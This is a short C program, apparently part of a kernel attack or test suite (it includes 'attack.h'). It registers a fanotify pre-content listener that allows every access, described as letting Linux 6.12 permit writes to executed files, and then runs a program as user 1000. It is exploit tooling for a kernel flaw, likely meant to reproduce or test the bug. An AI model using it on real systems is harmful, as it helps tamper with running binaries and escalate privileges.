// SPDX-License-Identifier: GPL-2.0
/*
 * pre-content: the administrator's storage manager. It is a fanotify listener
 * that the kernel asks before the contents of a file are accessed, and it
 * allows every access. The kernel allows writing to such a file while it is
 * executed.
 *
 *	pre-content FILE PROGRAM [ARGUMENT...]
 *
 * Listens for FILE, and runs PROGRAM as user 1000 meanwhile. Linux 6.12 does
 * not have these events yet. But as soon as a listener of this class listens
 * for any event, 6.12 allows writing to all executed files of that file system.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <grp.h>
#include <poll.h>
#include <sys/fanotify.h>

#ifndef FAN_PRE_ACCESS
#define FAN_PRE_ACCESS	0x00100000
#endif

static void answer(int group)
{
	struct fanotify_event_metadata events[16], *event = events;
	ssize_t len = check("read", read(group, events, sizeof(events)));

	for (; FAN_EVENT_OK(event, len); event = FAN_EVENT_NEXT(event, len)) {
		const struct fanotify_response response = {
			.fd = event->fd,
			.response = FAN_ALLOW,
		};

		check("write", write(group, &response, sizeof(response)));
		close(event->fd);
	}
}

int main(int argc, char **argv)
{
	struct pollfd group = { .events = POLLIN };
	pid_t child;
	int status;

	alarm(60);
	if (argc < 3)
		return 2;
	group.fd = check("fanotify", fanotify_init(FAN_CLASS_PRE_CONTENT | FAN_CLOEXEC,
						   O_RDONLY | O_LARGEFILE));
	if (fanotify_mark(group.fd, FAN_MARK_ADD, FAN_PRE_ACCESS, AT_FDCWD, argv[1]))
		check("fanotify", fanotify_mark(group.fd, FAN_MARK_ADD, FAN_OPEN_PERM, AT_FDCWD,
						argv[1]));

	child = check("fork", fork());
	if (!child) {
		check("setgroups", setgroups(0, NULL));
		check("setgid", setgid(1000));
		check("setuid", setuid(1000));
		execv(argv[2], argv + 2);
		failed("exec");
	}
	while (!waitpid(child, &status, WNOHANG))
		if (check("poll", poll(&group, 1, 20)))
			answer(group.fd);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
